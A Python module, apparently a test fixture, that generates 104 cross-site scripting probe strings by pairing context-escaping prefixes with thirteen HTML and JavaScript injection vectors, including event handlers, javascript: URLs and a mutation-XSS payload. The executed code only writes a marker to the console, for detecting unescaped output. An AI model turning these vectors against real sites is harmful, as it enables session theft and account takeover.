"""Texts that run a script where they are shown without being escaped. HIT is what they run: it writes to the browser's console."""

MARK = "markup-ran"
HIT = f"console.log('{MARK}')"
# What leaves the place where a text usually stands: an element, an attribute in either quotation mark, a text area, a title ...
EXITS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "--></style>", "</option></select>")
VECTORS = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f'<iframe srcdoc="<script>{HIT}</script>"></iframe>',
    f'<object data="javascript:{HIT}"></object>',
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={HIT}>x</p>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{HIT}">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{HIT}">',
    f'<form><button formaction="javascript:{HIT}" autofocus>x</button></form>',
    f"<a href=\"javascript:{HIT}\" id=x>x</a> [x](javascript:{HIT}) ![x](javascript:{HIT})",
    f"' onmouseover={HIT} onfocus={HIT} autofocus x='",
)  # fmt: skip


def texts() -> list[str]:
    """104 texts of one line."""
    return [exit_ + vector for exit_ in EXITS for vector in VECTORS]
